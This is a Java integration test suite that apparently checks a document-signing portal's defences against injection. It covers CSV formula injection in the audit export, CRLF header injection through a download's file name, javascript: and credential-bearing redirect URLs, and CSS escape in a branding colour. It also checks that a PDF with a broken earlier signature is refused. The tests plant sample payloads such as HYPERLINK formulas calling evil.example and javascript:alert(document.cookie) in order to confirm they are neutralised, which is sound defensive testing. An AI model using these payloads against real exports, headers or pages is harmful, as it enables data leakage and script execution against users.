package org.paraph.it.attacks;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.StringReader;
import java.net.URLDecoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.paraph.it.support.Browser;
import org.paraph.it.support.ParaphServer;
import org.paraph.it.support.PortalClient;
import org.paraph.it.support.PortalClient.Multipart;
import org.paraph.it.support.SealBatches;
import org.paraph.it.support.SharedServer;
import org.paraph.it.support.TestPdfs;
import org.paraph.it.support.WorkflowJson;

/**
 * Injections through what a user or an anonymous caller writes and the portal later hands to
 * another program: a spreadsheet opening the audit CSV, a browser reading a download's header or
 * following the participant page's redirect; and a document whose earlier signature is broken,
 * which must be refused as the document's problem, not reported as a service being down.
 */
@ExtendWith(SharedServer.class)
class InjectionAttackIT {

  @Test
  void formulasWrittenIntoAuditedFieldsReachTheCsvExportAsText(ParaphServer server)
      throws Exception {
    PortalClient admin = PortalClient.asAdmin(server);
    // Anonymous: a failed sign-in is audited with the user name tried (a tab, then a formula) and
    // the caller's User-Agent (a formula).
    String user = "\t=HYPERLINK(\"//evil.example/?user\")";
    String agent = "=HYPERLINK(\"//evil.example/?agent\")";
    HttpResponse<String> refused =
        HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(server.uri("/api/v1/workflows"))
                    .timeout(Duration.ofMinutes(1))
                    .header("Authorization", basic(user, "wrong-password"))
                    .header("User-Agent", agent)
                    .GET()
                    .build(),
                HttpResponse.BodyHandlers.ofString());
    assertEquals(401, refused.statusCode());
    // A sender: a workflow name with a carriage return before '=' (cut there by some importers).
    String name = "Q4 report\r=HYPERLINK(\"//evil.example/?workflow\")";
    HttpResponse<byte[]> created =
        admin.postJson(
            "/api/v1/workflows",
            WorkflowJson.named(name)
                .document("report.pdf", TestPdfs.a4(1))
                .signer("Ada", "Lovelace", "ada.csv@example.org", 1, 50)
                .json());
    assertEquals(201, created.statusCode(), () -> text(created));

    HttpResponse<byte[]> csv = admin.get("/api/v1/audit/events?format=csv", "text/csv");

    assertEquals(200, csv.statusCode(), () -> text(csv));
    List<List<String>> rows = parseCsv(text(csv));
    List<String> planted =
        rows.stream().flatMap(List::stream).filter(cell -> cell.contains("evil.example")).toList();
    assertTrue(planted.size() >= 3, () -> "every planted value is exported: " + planted);
    for (String cell : planted) {
      // The recorded details are a code and its parameters in JSON: they start with '{' and keep
      // the carriage return escaped, so no spreadsheet runs them; every other cell is marked.
      boolean codedDetails =
          cell.startsWith("{\"code\":") && !cell.contains("\r") && !cell.contains("\n");
      assertTrue(cell.startsWith("'") || codedDetails, () -> "marked as text: " + printable(cell));
    }
    // The details in words ('Q4 report...', 1 document(s)...) hold the line break before '=':
    // marked, the marker before the text's own quote.
    assertTrue(
        planted.stream().anyMatch(cell -> cell.startsWith("''" + name)),
        () -> "the details in words, marked: " + printable(planted.toString()));
    assertTrue(planted.contains("'" + user), () -> printable(planted.toString()));
    assertTrue(planted.contains("'" + agent), () -> printable(planted.toString()));
    assertTrue(
        planted.stream().anyMatch(cell -> cell.contains(name)),
        () -> printable(planted.toString()));
    // Nothing was lost: the JSON export keeps the values exactly as given (the details in words).
    String json = text(admin.get("/api/v1/audit/events?format=json", "application/json"));
    List<JsonObject> events =
        Json.createReader(new StringReader(json)).readArray().getValuesAs(JsonObject.class);
    assertTrue(events.stream().anyMatch(e -> user.equals(e.getString("actor"))), "the user name");
    assertTrue(
        events.stream().anyMatch(e -> agent.equals(e.getString("userAgent", null))),
        "the User-Agent as sent");
    assertTrue(
        events.stream().anyMatch(e -> e.getString("text", "").contains(name)),
        "the workflow name as sent");
  }

  @Test
  void aFileNameWithLineBreaksAndQuotesCannotAddAResponseHeader(ParaphServer server)
      throws Exception {
    PortalClient admin = PortalClient.asAdmin(server);
    String fileName = "a\"\r\nX-Injected: 1.pdf";
    HttpResponse<byte[]> created =
        admin.postJson(
            "/api/v1/workflows",
            WorkflowJson.named("Header injection")
                .document(fileName, TestPdfs.a4(1))
                .signer("Bob", "Header", "bob.header@example.org", 1, 50)
                .json());
    assertEquals(201, created.statusCode(), () -> text(created));
    JsonObject workflow = PortalClient.json(created);
    String documentId = workflow.getJsonArray("documents").getJsonObject(0).getString("id");

    HttpResponse<byte[]> download =
        admin.get(
            "/api/v1/workflows/" + workflow.getString("id") + "/documents/" + documentId, null);

    assertEquals(200, download.statusCode(), () -> text(download));
    assertTrue(download.headers().firstValue("X-Injected").isEmpty(), download.headers()::toString);
    String disposition = download.headers().firstValue("Content-Disposition").orElseThrow();
    assertFalse(disposition.chars().anyMatch(c -> c < 0x20 || c > 0x7e), disposition);
    assertTrue(
        disposition.startsWith("attachment; filename=\"a_X-Injected: 1.pdf\";"), disposition);
    String encoded = disposition.substring(disposition.indexOf("filename*=UTF-8''") + 17);
    assertEquals("a\"X-Injected: 1.pdf", URLDecoder.decode(encoded, StandardCharsets.UTF_8));
    assertTrue(
        new String(download.body(), 0, 5, StandardCharsets.ISO_8859_1).equals("%PDF-"),
        "the document itself is served");
  }

  @Test
  void aScriptAddressAsTheBrandingRedirectIsRefusedAndNothingIsCreated(ParaphServer server)
      throws Exception {
    PortalClient admin = PortalClient.asAdmin(server);
    for (String redirect :
        List.of(
            "javascript:alert(document.cookie)",
            "https://user:password@evil.example/",
            "http://evil.example/plain-http")) {
      String name = "Branded " + redirect.hashCode();
      String json =
          WorkflowJson.named(name)
              .document("offer.pdf", TestPdfs.a4(1))
              .signer("Cy", "Brand", "cy.brand@example.org", 1, 50)
              .json();
      JsonObject body = Json.createReader(new StringReader(json)).readObject();
      JsonObject branded =
          Json.createObjectBuilder(body)
              .add(
                  "branding",
                  Json.createObjectBuilder()
                      .add("primaryColour", "#aa3300")
                      .add("redirectUrl", redirect))
              .build();

      HttpResponse<byte[]> refused = admin.postJson("/api/v1/workflows", branded.toString());

      assertEquals(400, refused.statusCode(), () -> text(refused));
      JsonObject problem = PortalClient.json(refused);
      assertEquals("https://paraph.org/problems/invalid-workflow", problem.getString("type"));
      assertTrue(problem.getString("detail").contains("branding.redirectUrl"), problem::toString);
      String listed = text(admin.get("/api/v1/workflows", "application/json"));
      assertFalse(listed.contains(name), "no workflow was created");
    }
    // A colour that would escape its style attribute is refused the same way.
    String json =
        WorkflowJson.named("Branded colour")
            .document("offer.pdf", TestPdfs.a4(1))
            .signer("Cy", "Brand", "cy.colour@example.org", 1, 50)
            .json();
    JsonObject colour =
        Json.createObjectBuilder(Json.createReader(new StringReader(json)).readObject())
            .add(
                "branding",
                Json.createObjectBuilder().add("primaryColour", "red;background:url(//evil)"))
            .build();
    HttpResponse<byte[]> refusedColour = admin.postJson("/api/v1/workflows", colour.toString());
    assertEquals(400, refusedColour.statusCode(), () -> text(refusedColour));
    assertTrue(text(refusedColour).contains("branding.primaryColour"), () -> text(refusedColour));
  }

  @Test
  void theWizardRefusesAScriptAddressNextToItsField(ParaphServer server) throws Exception {
    Path work = Files.createTempDirectory(server.dataDir().getParent(), "injection-wizard-");
    WebDriver sender = Browser.start(work);
    try {
      WebDriverWait wait = Browser.waitUpTo(sender, Duration.ofSeconds(60));
      sender.get(server.baseUrl() + "/app/workflow-new.xhtml");
      wait.until(ExpectedConditions.urlContains("/login.xhtml"));
      sender.findElement(By.id("login:username")).sendKeys(ParaphServer.ADMIN);
      sender
          .findElement(By.cssSelector("input[type=password]"))
          .sendKeys(ParaphServer.ADMIN_PASSWORD);
      sender.findElement(By.id("login:submit")).click();
      wait.until(ExpectedConditions.urlContains("/app/workflow-new.xhtml"));
      Path pdf = work.resolve("offer.pdf");
      Files.write(pdf, TestPdfs.a4(1));
      sender.findElement(By.cssSelector("#upload input[type=file]")).sendKeys(pdf.toString());
      wait.until(
          ExpectedConditions.textToBePresentInElementLocated(
              By.cssSelector(".uploaded-document"), "offer.pdf"));
      sender.findElement(By.id("wizard:first-name")).sendKeys("Dee");
      sender.findElement(By.id("wizard:surname")).sendKeys("Wizard");
      sender.findElement(By.id("wizard:email")).sendKeys("dee.wizard@example.org");
      sender.findElement(By.id("wizard:add-participant")).click();
      wait.until(ExpectedConditions.numberOfElementsToBe(By.cssSelector(".added-participant"), 1));
      Browser.awaitAjaxQuiet(sender, wait);
      String name = "Wizard redirect " + System.nanoTime();
      sender.findElement(By.id("wizard:name")).sendKeys(name);
      sender.findElement(By.id("wizard:redirect")).sendKeys("javascript:alert(document.cookie)");
      Browser.awaitAjaxQuiet(sender, wait);

      sender.findElement(By.id("wizard:start")).click();

      // The message is redrawn by the ajax answer: wait for the text, then read the element anew.
      wait.until(
          ExpectedConditions.textToBePresentInElementLocated(
              By.id("wizard:redirect-message"), "https://"));
      WebElement fieldError = sender.findElement(By.id("wizard:redirect-message"));
      assertTrue(fieldError.isDisplayed(), "the message is shown next to the field");
      assertTrue(fieldError.getText().contains("https://"), fieldError::getText);
      assertTrue(sender.getCurrentUrl().contains("/app/workflow-new"), sender.getCurrentUrl());
      String listed =
          text(PortalClient.asAdmin(server).get("/api/v1/workflows", "application/json"));
      assertFalse(listed.contains(name), "no workflow was created");
    } finally {
      Browser.screenshot(sender, work.resolve("wizard-redirect.png"));
      sender.quit();
    }
  }

  @Test
  void aLongTermSealOverABrokenSignatureIsTheDocumentsProblem(ParaphServer server)
      throws Exception {
    PortalClient admin = PortalClient.asAdmin(server);
    HttpResponse<byte[]> signed =
        admin.seal(TestPdfs.a4(1), "signed.pdf", Map.of("level", "B-B"), "application/pdf");
    assertEquals(200, signed.statusCode(), () -> text(signed));
    byte[] broken = withOneSignedByteChanged(signed.body());
    int recordsBefore = admin.sealRecords().size();

    for (String level : List.of("B-LT", "B-LTA")) {
      HttpResponse<byte[]> refused =
          admin.seal(broken, "broken.pdf", Map.of("level", level), "application/json");

      assertEquals(422, refused.statusCode(), () -> level + ": " + text(refused));
      JsonObject problem = PortalClient.json(refused);
      assertEquals(
          "https://paraph.org/problems/earlier-signature-invalid", problem.getString("type"));
      assertTrue(
          problem.getString("detail").contains("signature already in the PDF is broken"),
          problem::toString);
      assertTrue(problem.getString("detail").contains("field '"), problem::toString);
    }
    assertEquals(recordsBefore, admin.sealRecords().size(), "nothing was sealed");

    // In a batch, the broken document fails at once with that reason; the good one is sealed.
    Multipart body =
        new Multipart()
            .file("file", "broken.pdf", broken)
            .file("file", "good.pdf", TestPdfs.a4(1))
            .text("level", "B-LT");
    HttpResponse<byte[]> accepted = admin.sealBatch(body);
    assertEquals(202, accepted.statusCode(), () -> text(accepted));
    JsonObject batch =
        SealBatches.awaitComplete(admin, PortalClient.json(accepted).getString("id"));
    List<JsonObject> documents = batch.getJsonArray("documents").getValuesAs(JsonObject.class);
    JsonObject failed = documents.get(0);
    assertEquals("FAILED", failed.getString("state"), failed::toString);
    assertEquals(1, failed.getInt("attempts"), () -> "not retried: " + failed);
    assertEquals(
        "https://paraph.org/problems/earlier-signature-invalid",
        failed.getJsonObject("error").getString("type"));
    assertEquals("DONE", documents.get(1).getString("state"), documents.get(1)::toString);
  }

  /**
   * The line break before the first {@code endobj} becomes a space: one byte inside the signed
   * range changes, the file's structure does not.
   */
  private static byte[] withOneSignedByteChanged(byte[] signed) {
    byte[] copy = signed.clone();
    int at = new String(copy, StandardCharsets.ISO_8859_1).indexOf("endobj") - 1;
    copy[at] = (byte) (copy[at] == ' ' ? '\n' : ' ');
    return copy;
  }

  /** RFC 4180, as a spreadsheet reads it: quoted fields may hold separators and line breaks. */
  private static List<List<String>> parseCsv(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    boolean quoted = false;
    String text = csv.startsWith("\uFEFF") ? csv.substring(1) : csv;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          field.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          field.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(field.toString());
        field.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(field.toString());
        field.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        field.append(c);
      }
    }
    return rows;
  }

  private static String basic(String user, String password) {
    return "Basic "
        + Base64.getEncoder()
            .encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
  }

  private static String printable(String value) {
    return value.replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n");
  }

  private static String text(HttpResponse<byte[]> response) {
    return new String(response.body(), StandardCharsets.UTF_8);
  }
}
